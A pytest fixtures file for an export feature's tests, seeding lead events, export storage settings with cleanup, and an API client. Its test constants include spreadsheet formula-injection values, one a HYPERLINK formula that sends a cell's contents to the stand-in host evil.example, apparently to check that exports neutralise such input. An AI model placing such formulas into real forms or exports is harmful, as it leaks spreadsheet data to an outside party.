"""Fixtures for export tests: a projection with a few known events, export settings with a
prefix of their own (emptied afterwards in both object stores), an HTTP client."""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

import pytest
from fastapi import FastAPI
from fastapi.testclient import TestClient

from engine.destinations import Destination
from engine.objects.destination import open_store
from engine.settings import Settings
from projectors.batch import Record, build_batch
from projectors.exports.api import router
from projectors.exports.jobs import migrate_exports
from projectors.store import Connection
from projectors.writing import write_batch
from schemas.codec import EventCodec
from tests.factories import make_lead_events
from tests.keys import admin_client

BASE_MS = 1_764_000_000_000  # 2025-11-24T16:00:00Z
Event = dict[str, Any]

# Lead fields as an attacker would type them into a web form.
FORMULA_FIRST_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
FORMULA_EMAIL = "@SUM(1+1)@example.com"
FORMULA_REASON = "-2+3 buyer refused"


def write_events(db: Connection, events: list[Event]) -> None:
    codec = EventCodec()
    records = [Record("t", 0, i, codec.encode(e)) for i, e in enumerate(events)]
    write_batch(db, "test", build_batch(codec, records))


@pytest.fixture
def flow_events(db: Connection, pg_schema: str) -> list[Event]:
    """Three leads of flow ``pg_schema`` a second apart (five events each), plus one lead of
    another flow written first. Lead 0 carries formula-like fields; lead 1's delivery
    failed with a formula-like reason. Returns the flow's events in id order."""
    leads = [make_lead_events(flow_id=pg_schema, submitted_ms=BASE_MS + 1000 * i) for i in range(3)]
    for event in leads[0]:
        event["vars"].update({"lead.first_name": FORMULA_FIRST_NAME, "lead.email": FORMULA_EMAIL})
    delivery = next(e for e in leads[1] if e["type"] == "recipient.delivered")
    delivery.update(type="recipient.failed", outcome="failure", reason=FORMULA_REASON, revenue=None)
    other = make_lead_events(flow_id=f"other{pg_schema}", submitted_ms=BASE_MS + 500)
    write_events(db, other + [e for lead in leads for e in lead])
    return sorted((e for lead in leads for e in lead), key=lambda e: e["id"])


@pytest.fixture
def export_settings(pg_settings: Settings, unique_id: str) -> Iterator[Settings]:
    """``pg_settings`` with the export tables migrated, files under a prefix of the test's
    own in S3, and no worker thread in the API (tests run workers themselves)."""
    settings = pg_settings.model_copy(
        update={"export_prefix": f"test-exports/{unique_id}/", "export_worker_in_api": False}
    )
    migrate_exports(settings)
    yield settings
    for kind, bucket in (("s3", settings.s3_bucket), ("azure_blob", settings.azure_container)):
        store = open_store(Destination(kind=kind, bucket=bucket), settings)
        for key in store.list_keys(settings.export_prefix):
            store.delete(key)
        store.close()


def api(settings: Settings) -> FastAPI:
    app = FastAPI()
    app.state.settings = settings
    app.include_router(router)
    return app


@pytest.fixture
def client(export_settings: Settings) -> TestClient:
    return admin_client(api(export_settings))
